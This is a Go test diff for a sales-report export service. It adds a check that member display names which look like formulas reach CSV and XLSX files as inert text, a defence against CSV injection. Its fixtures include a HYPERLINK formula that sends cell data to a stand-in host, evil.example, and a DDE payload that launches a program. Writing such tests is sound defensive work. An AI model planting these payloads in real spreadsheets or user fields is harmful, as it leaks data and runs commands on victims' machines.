@@ -12,8 +12,10 @@ import (
 	"testing"
 	"time"
 
+	memberv1 "github.com/cqlive/alliance/gen/pb/alliance/member/v1"
 	salesv1 "github.com/cqlive/alliance/gen/pb/alliance/sales/v1"
 	typev1 "github.com/cqlive/alliance/gen/pb/alliance/type/v1"
+	"github.com/cqlive/alliance/services/kit/testkit"
 	"github.com/xuri/excelize/v2"
 	"google.golang.org/grpc/codes"
 )
@@ -192,4 +194,77 @@ func TestExportsHoldTheReportsFigures(t *testing.T) {
 		_, _, _, err = e.download(ctx, &salesv1.QuerySalesReportRequest{StartDate: "2026-03-01", EndDate: "2026-02-01"}, "CSV")
 		wantErr(t, err, codes.InvalidArgument, "INVALID_ARGUMENT")
 	})
+}
+
+// A display name is a member's own text: one that starts as a formula
+// (=, +, -, @, a tab or a carriage return) must reach a spreadsheet as
+// that text, never as a formula it runs (CSV injection). The CSV keeps
+// such a cell as text by a leading apostrophe, as spreadsheets read it;
+// the XLSX holds it as a string cell, exactly.
+func TestExportsKeepFormulaLikeNamesAsText(t *testing.T) {
+	e := newEnv(t)
+	ctx := context.Background()
+	names := map[string]string{
+		e.a.Host:         `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		e.a.OfficialHost: "@SUM(1+1)*cmd|' /C calc'!A0",
+	}
+	for name, display := range names {
+		m, err := memberv1.NewMemberRegistryClient(testkit.Dial(t, e.regAddr)).GetMember(ctx, &memberv1.GetMemberRequest{Name: name})
+		if err != nil {
+			t.Fatal(err)
+		}
+		m.DisplayName = display
+		e.reg.Put(m)
+	}
+	e.mustRecord(order(sEnded, e.a.Tea, "f1", 1, 1000, t0.Add(time.Hour)))
+	k := order(sKuaishou, e.a.Tea, "f2", 1, 2000, t0.Add(time.Hour))
+	k.Platform = typev1.Platform_PLATFORM_KUAISHOU
+	e.mustRecord(k)
+	q := &salesv1.QuerySalesReportRequest{StartDate: "2026-03-01", EndDate: "2026-04-01", Granularity: salesv1.Granularity_GRANULARITY_MONTH,
+		GroupBy: []salesv1.Dimension{salesv1.Dimension_DIMENSION_HOST}}
+
+	data, _, _, err := e.download(ctx, q, "CSV")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, r := range exportedTable(t, data, "CSV")[1:] {
+		if len(r) > 3 {
+			got[r[2]] = r[3]
+		}
+	}
+	for name, display := range names {
+		if got[name] != "'"+display {
+			t.Errorf("CSV: %s's name is %q, want %q (text, not a formula)", name, got[name], "'"+display)
+		}
+	}
+
+	data, _, _, err = e.download(ctx, q, "XLSX")
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.GetRows("report")
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := 0
+	for i, r := range rows {
+		if len(r) < 4 || names[r[2]] == "" {
+			continue
+		}
+		seen++
+		ref, _ := excelize.CoordinatesToCellName(4, i+1)
+		formula, err := f.GetCellFormula("report", ref)
+		if err != nil || formula != "" || r[3] != names[r[2]] {
+			t.Errorf("XLSX %s: %q, formula %q (%v); want the name %q as text", ref, r[3], formula, err, names[r[2]])
+		}
+	}
+	if seen != len(names) {
+		t.Fatalf("XLSX: %d of the %d hosts found: %v", seen, len(names), rows)
+	}
 }
